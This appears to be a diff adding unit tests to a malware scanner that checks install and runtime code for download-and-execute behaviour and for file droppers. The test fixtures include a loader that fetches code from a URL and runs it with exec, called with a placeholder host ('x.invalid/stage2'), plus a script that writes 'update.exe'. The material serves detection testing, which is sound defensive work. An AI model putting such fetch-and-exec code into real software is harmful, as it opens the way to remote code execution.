@@ -128,3 +128,41 @@ def test_an_address_ending_in_dot_com_is_not_a_program_name() -> None:
     assert "PV-DL-002" not in ids(run(RULES, py(source, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
     dropper = source.replace("'support@example.com'", "'update.exe'")
     assert "PV-DL-002" in ids(run(RULES, py(dropper, path="demo-1.0/setup.py", stage=Stage.INSTALL)))
+
+
+def test_exec_of_code_from_an_address_the_caller_passes_is_high() -> None:
+    source = (
+        "import urllib.request, types\n"
+        "def load_preload(url):\n"
+        "    with urllib.request.urlopen(url) as response:\n"
+        "        source = response.read()\n"
+        "    compiled = compile(source, url, 'exec')\n"
+        "    module = types.ModuleType(url)\n"
+        "    exec(compiled, module.__dict__)\n"
+        "    return module\n"
+    )
+    findings = run(RULES, py(source, path="acme/preload.py", stage=Stage.RUNTIME))
+    assert [(f.rule, f.severity) for f in findings] == [("PV-DL-001", Severity.HIGH)]
+    named = source + "load_preload('http://x.invalid/stage2')\n"
+    findings = run(RULES, py(named, path="acme/preload.py", stage=Stage.RUNTIME))
+    assert {f.severity for f in findings if f.rule == "PV-DL-001"} == {Severity.CRITICAL}
+    fixed = source.replace("urlopen(url)", "urlopen('http://x.invalid/' + url)")
+    findings = run(RULES, py(fixed, path="acme/preload.py", stage=Stage.RUNTIME))
+    assert {f.severity for f in findings if f.rule == "PV-DL-001"} == {Severity.CRITICAL}
+
+
+def test_console_output_naming_a_script_is_not_a_saved_program() -> None:
+    source = (
+        "import socket, sys\n"
+        "PAGE = '<script src=\"/static/app.js\"></script>'\n"
+        "def serve(pipe):\n"
+        "    with socket.socket(socket.AF_UNIX) as s:\n"
+        "        s.connect(pipe)\n"
+        "        data = s.recv(4096)\n"
+        "    sys.stdout.write('Content-type: text/html\\r\\n\\r\\n' + PAGE)\n"
+        "    with open('notes.txt', 'w') as f:\n"
+        "        f.write(PAGE)\n"
+    )
+    assert run(RULES, py(source, path="acme/web.py", stage=Stage.RUNTIME)) == []
+    saved = source.replace("'notes.txt'", "'update.exe'")
+    assert "PV-DL-002" in ids(run(RULES, py(saved, path="acme/web.py", stage=Stage.RUNTIME)))
